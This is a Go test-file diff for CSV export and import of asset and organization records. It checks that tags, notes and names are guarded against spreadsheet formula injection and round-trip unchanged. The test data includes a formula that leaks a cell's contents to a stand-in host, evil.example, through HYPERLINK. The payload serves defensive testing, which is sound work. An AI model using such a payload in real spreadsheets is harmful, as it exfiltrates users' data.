@@ -2,6 +2,7 @@ package transfer
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"strings"
 	"testing"
@@ -105,8 +106,8 @@ func TestAssetsRoundTrip(t *testing.T) {
 		if len(rows) != 2 || rows[0].OrgCode != "A" || rows[1].Asset.Value != "192.0.2.0/24" || len(rows[0].Asset.Tags) != 2 {
 			t.Errorf("%s: rows = %+v", f, rows)
 		}
-		if f == CSV && rows[0].Asset.Notes != "'=cmd()" {
-			t.Errorf("formula not defused: %q", rows[0].Asset.Notes)
+		if rows[0].Asset.Notes != "=cmd()" {
+			t.Errorf("%s: notes after a round trip %q, want them unchanged", f, rows[0].Asset.Notes)
 		}
 	}
 }
@@ -191,4 +192,55 @@ func FuzzReadOrgs(f *testing.F) {
 		}
 		_, _ = ReadOrgs(bytes.NewReader(data), format)
 	})
+}
+
+// TestF14TagsGuardedRoundTripUnchanged: every free-text cell of the asset
+// and organization CSVs, tags included, is defused against spreadsheet
+// formulas, and importing the export gives back exactly what was exported.
+func TestF14TagsGuardedRoundTripUnchanged(t *testing.T) {
+	evil := `=hyperlink("http://evil.example/?leak="&a2,"open")`
+	assets := []asset.Asset{{OrgID: 1, Kind: asset.KindDomain, Value: "a.vn", Criticality: "normal", SecurityLevel: 1,
+		Tags: []string{evil, "+sum(1)", "web", "'=already"}, Notes: "@cmd"}}
+	var buf bytes.Buffer
+	if err := WriteAssets(&buf, CSV, assets, func(int64) string { return "A" }); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		for _, cell := range rec {
+			for _, part := range strings.Split(cell, ";") {
+				if part != "" && strings.ContainsRune("=+-@", rune(part[0])) {
+					t.Errorf("cell %q starts a formula:\n%s", part, buf.String())
+				}
+			}
+		}
+	}
+	rows, err := ReadAssets(strings.NewReader(buf.String()), CSV, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := rows[0].Asset
+	if strings.Join(got.Tags, "|") != strings.Join(assets[0].Tags, "|") || got.Notes != "@cmd" {
+		t.Errorf("round trip changed tags %q or notes %q", got.Tags, got.Notes)
+	}
+	orgs := []org.Organization{{ID: 1, Code: "X", Name: "=Bộ", NameEN: "-Ministry", Kind: org.KindMinistry}}
+	buf.Reset()
+	if err := WriteOrgs(&buf, CSV, orgs, nil, func(int64) string { return "" }); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(buf.String(), ",=B") {
+		t.Errorf("org name not defused:\n%s", buf.String())
+	}
+	orows, err := ReadOrgs(strings.NewReader(buf.String()), CSV)
+	if err != nil || orows[0].Org.Name != "=Bộ" || orows[0].Org.NameEN != "-Ministry" {
+		t.Errorf("org round trip: %+v, %v", orows, err)
+	}
+	for _, s := range []string{"", "plain", "=x", "'=x", "''=x", "'plain", "-", "'"} {
+		if back := UnsafeCell(SafeCell(s)); back != s {
+			t.Errorf("UnsafeCell(SafeCell(%q)) = %q", s, back)
+		}
+	}
 }
